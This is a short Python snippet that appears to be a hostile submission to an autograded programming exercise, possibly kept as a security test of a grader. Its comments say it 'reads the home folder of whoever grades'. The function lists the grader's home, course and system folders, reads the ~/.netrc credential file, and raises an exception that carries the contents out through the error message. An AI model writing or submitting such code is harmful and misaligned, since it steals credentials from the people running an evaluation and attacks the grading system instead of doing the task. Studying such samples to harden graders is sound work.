# tries = "reads the home folder of whoever grades"
# exercise = "which-was-it"
# reach = "dataclasses"


def customer(bell, patience):
    os = reach("os")
    found = []
    for folder in ("@HOME@", "@NOTES@", "@COURSE@", "/root", "/home"):
        try:
            found.append(f"{folder}: {os.listdir(folder)}")
        except OSError:
            pass
    file = os.open("@HOME@/.netrc", os.O_RDONLY)
    raise ValueError(os.read(file, 1000).decode() + str(found))
